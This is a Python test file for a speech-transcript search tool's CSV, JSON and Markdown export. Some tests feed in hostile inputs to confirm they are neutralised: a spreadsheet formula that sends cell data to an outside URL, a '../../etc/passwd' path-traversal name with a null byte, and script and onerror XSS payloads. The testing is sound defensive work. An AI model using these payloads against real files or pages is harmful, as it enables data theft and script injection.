"""What is found as files: read back by what reads such files."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from markdown_it import MarkdownIt

from index import Kind
from search import SpeechSearch
from search.results import answer_json, hit_json
from ui.address import Layout, Sort, View
from ui.arranging import arranged
from ui.export import FILES, Shown, as_csv, as_json, as_markdown, file_name

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

APP = "http://localhost:8501/"
PIPES = "pipes below Fennel Street"


def shown(index: Path, view: View) -> Shown:
    answer = SpeechSearch.open(index).ask(view.question, filters=view.filters)
    found = arranged(answer.hits, (), view.layout, answered=bool(answer.citations), asked=True)
    return Shown(view, answer, found.shown, APP)


def rows_of(written: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(written.decode("utf-8-sig"), newline="")))


def test_a_table_has_a_row_for_each_passage_with_all_that_is_known(town_index: Path) -> None:
    view = View(PIPES, ("Tobin Ashgrove",), dt.date(2023, 1, 1), kinds=(Kind.SPEECH,))
    found = shown(town_index, view)
    first, second = rows_of(as_csv(found))
    score, passage_id = first.pop("score"), first.pop("passage_id").removeprefix("id-")
    assert first == {
        "question": PIPES,
        "filters": "speaker: Tobin Ashgrove; since: 2023-01-01; kind: speech",
        "rank": "1",
        "speaker": "Tobin Ashgrove",
        "role": "Councillor",
        "kind": "speech",
        "title": "Council session on water",
        "date": "2023-01-17",
        "venue": "Town hall",
        "text": "The old pipes below Fennel Street leak every winter.",
        "citation": "Tobin Ashgrove, Councillor, “Council session on water”, Town hall, 17 January 2023, at 0:01. "
        "https://example.org/water",
        "permalink": f"http://localhost:8501/transcript?id=council%2Fwater&passage={passage_id}",
    }
    assert passage_id == str(found.hits[0].passage.id)
    assert float(score) == pytest.approx(found.hits[0].score, abs=1e-4)
    assert second["text"] == "The water price rises by two crowns."


def test_a_cell_that_a_spreadsheet_would_take_for_a_formula_is_text(index_of: Callable[..., Path]) -> None:
    turns = [
        {"speaker": "@Ada Korvin", "text": '=HYPERLINK("http://example.org/?"&A1,"marmalade")', "role": "+Cook"},
        {"speaker": "Ben Lund", "text": "-2+3 of marmalade, said twice: marmalade."},
    ]
    rows = rows_of(as_csv(shown(index_of({"id": "a", "turns": turns}), View("=marmalade"))))
    assert {row["text"] for row in rows} == {
        '\'=HYPERLINK("http://example.org/?"&A1,"marmalade")',
        "'-2+3 of marmalade, said twice: marmalade.",
    }
    assert {row["question"] for row in rows} == {"'=marmalade"}
    assert {(row["speaker"], row["role"]) for row in rows} == {("'@Ada Korvin", "'+Cook"), ("Ben Lund", "")}


def test_no_cell_loses_digits_where_numbers_are_doubles(town_index: Path) -> None:
    def as_a_spreadsheet(cell: str) -> object:
        try:
            return float(cell)
        except ValueError:
            return cell

    found = shown(town_index, View(PIPES))
    cells = [as_a_spreadsheet(row["passage_id"]) for row in rows_of(as_csv(found))]
    assert cells == [f"id-{hit.passage.id}" for hit in found.hits]
    assert any(int(float(hit.passage.id)) != hit.passage.id for hit in found.hits)  # as numbers they would


@pytest.mark.parametrize(
    ("question", "name"),
    [
        ("trade turnover", "rostrum-trade-turnover-2026-11-27.csv"),
        ("What did Erdoğan say about «Zürich»?", "rostrum-what-did-erdogan-say-about-zurich-2026-11-27.csv"),
        ("../../etc/passwd\x00.exe", "rostrum-etc-passwd-exe-2026-11-27.csv"),
        ("Что сказал Путин?", "rostrum-2026-11-27.csv"),
        ("word " * 40, "rostrum-" + "-".join(["word"] * 12) + "-2026-11-27.csv"),
        ("w" * 200, "rostrum-2026-11-27.csv"),
    ],
)
def test_a_file_is_called_by_its_question_and_day_in_plain_letters(question: str, name: str) -> None:
    assert file_name(question, "csv", dt.date(2026, 11, 27)) == name


def test_of_words_to_find_markdown_has_passages_and_neither_an_answer_nor_a_lack_of_one(town_index: Path) -> None:
    for words in (PIPES, "the capital of Mongolia"):
        written = as_markdown(replace(shown(town_index, View(words)), asked=False)).decode()
        assert written.startswith(f"# {words}\n\n## Passages\n\n### 1\\. ")


def test_where_none_is_close_to_words_the_files_say_that_these_are_the_nearest(town_index: Path) -> None:
    written = as_markdown(replace(shown(town_index, View("granite")), asked=False, close=False)).decode()
    assert written.startswith("# granite\n\n## Nearest passages\n\n### 1\\. ")


def test_json_is_what_the_command_prints_with_filters_citations_and_links(town_index: Path) -> None:
    found = shown(town_index, View(PIPES, until=dt.date(2023, 12, 31)))
    written = json.loads(as_json(found))
    assert written.pop("filters") == {"until": ["2023-12-31"]}
    link = f"http://localhost:8501/transcript?id=council%2Fwater&passage={found.hits[0].passage.id}"
    assert [written["citations"][0].pop(name) for name in ("citation", "permalink")] == [
        "Tobin Ashgrove, Councillor, “Council session on water”, Town hall, 17 January 2023, at 0:01. "
        "https://example.org/water",
        link,
    ]
    hits = written.pop("hits")
    printed = json.loads(json.dumps(answer_json(found.answer)))
    assert hits[0]["permalink"] == link
    assert [{name: hit[name] for name in hit_json(found.hits[0])} for hit in hits] == printed.pop("hits")
    assert [hit["rank"] for hit in hits] == list(range(1, 11))
    for more in written["citations"]:
        more.pop("citation", None)
        more.pop("permalink", None)
    assert written == printed


def test_the_order_of_the_page_is_the_order_of_the_files(town_index: Path) -> None:
    found = shown(town_index, View("pipes library ferry", layout=Layout(Sort.OLDEST)))
    days = [row["date"] for row in rows_of(as_csv(found))]
    assert days == sorted(days)
    assert days[0] != days[-1]
    assert [hit["date"] for hit in json.loads(as_json(found))["hits"]] == days
    assert [row["rank"] for row in rows_of(as_csv(found))] != [str(n) for n in range(1, 11)]
    numbers = re.findall(r"^### (\d+)", as_markdown(found).decode(), re.MULTILINE)
    assert numbers == [str(n) for n in range(1, 11)]


def test_markdown_has_the_question_the_answer_and_each_passage_quoted(town_index: Path) -> None:
    found = shown(town_index, View(PIPES, ("Tobin Ashgrove",)))
    identity = found.hits[0].passage.id
    quoted = (
        "> The old pipes below Fennel Street leak every winter.\n>\n"
        "> — **Tobin Ashgrove**, Councillor, [Council session on water](https://example.org/water), Town hall, "
        "17 January 2023, at 0:01"
    )
    assert (
        as_markdown(found)
        .decode()
        .startswith(
            f"# {PIPES}\n\n- speaker: Tobin Ashgrove\n\n## Answer\n\n{quoted}\n\n## Passages\n\n"
            f"### 1\\. Tobin Ashgrove, 17 January 2023\n\n{quoted}\n\n"
            f"Rank 1 · score {found.hits[0].score:.4f} · passage {identity} · "
            f"[open in transcript](<http://localhost:8501/transcript?id=council%2Fwater&passage={identity}>)\n\n"
        )
    )


def test_an_abstention_is_told_in_markdown(town_index: Path) -> None:
    written = as_markdown(shown(town_index, View("What is the capital of Mongolia?"))).decode()
    assert "\n\nThe transcripts do not say.\n\n## Nearest passages\n\n### 1\\. " in written


@pytest.mark.parametrize("name", FILES)
def test_hostile_text_makes_a_whole_file(name: str, index_of: Callable[..., Path], hostile: dict[str, object]) -> None:
    written = FILES[name][3](shown(index_of(hostile), View("marmalade <b>")))
    said = '<script>window.hacked = 1</script> & <img src=x onerror="window.hacked = 2">'
    if name == "Markdown":
        page = MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(written.decode())
        assert "<script" not in page
        assert "<img" not in page
        assert "&lt;script&gt;window.hacked = 1&lt;/script&gt; &amp; &lt;img" in page
    elif name == "CSV":
        assert said in "".join(row["text"] for row in rows_of(written))
    else:
        assert said in "".join(hit["text"] for hit in json.loads(written)["hits"])
